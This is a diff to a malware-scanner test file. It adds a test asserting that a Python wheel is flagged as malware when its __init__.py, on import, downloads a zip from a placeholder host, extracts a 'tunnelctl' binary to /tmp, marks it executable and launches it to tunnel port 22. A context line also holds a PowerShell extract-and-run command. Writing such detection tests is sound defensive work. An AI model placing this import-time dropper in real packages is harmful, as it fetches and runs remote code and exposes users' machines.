@@ -289,3 +289,19 @@ test('unpacking what was downloaded, with PowerShell as well, is not starting it
   ).toEqual([]);
   expect(await inspect('dropper', file('Expand-Archive /opt/tool/driver.zip; & /opt/tool/driver.zip'))).not.toEqual([]);
 });
+
+test('a program that is taken out of a fetched archive and started is malware at import', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import io, os, subprocess, urllib.request, zipfile',
+      "z = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen('https://files.tools.invalid/n.zip').read()))",
+      "z.extract('tunnelctl', '/tmp')",
+      "os.chmod('/tmp/tunnelctl', 0o755)",
+      "subprocess.Popen('/tmp/tunnelctl tcp 22', shell=True)",
+    ),
+  });
+
+  expect(await inspect('dropper', file)).toContainEqual(
+    expect.objectContaining({ class: 'malware', score: 10, line: 5 }),
+  );
+});
